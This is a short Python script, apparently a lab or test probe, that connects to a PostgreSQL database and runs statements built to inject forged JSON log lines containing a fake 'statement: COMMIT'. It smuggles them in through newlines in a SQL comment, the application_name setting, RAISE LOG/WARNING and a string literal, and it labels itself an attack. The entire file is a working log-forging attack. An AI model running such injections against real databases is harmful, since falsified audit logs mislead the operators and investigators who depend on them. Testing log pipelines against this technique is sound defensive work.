import os

import psycopg2


def run(*statements):
    connection = psycopg2.connect(os.environ["DATABASE_URL"])
    connection.autocommit = True
    cursor = connection.cursor()
    for statement in statements:
        try:
            cursor.execute(statement)
        except psycopg2.Error as error:
            print("refused:", str(error).split("\n")[0])
    connection.close()
    print("attack ran")


LINE = '{"user":"learner","dbname":"gonogo","pid":1,"error_severity":"LOG","message":"statement: COMMIT"}'
run(
    "SELECT 1 /* \n" + LINE + "\n */",
    "SET application_name = '\n" + LINE.replace("'", "") + "\n'",
    "DO $$ BEGIN RAISE LOG E'\\nstatement: COMMIT'; RAISE WARNING 'statement: BEGIN'; END $$",
    "SELECT 'statement: COMMIT'",
)
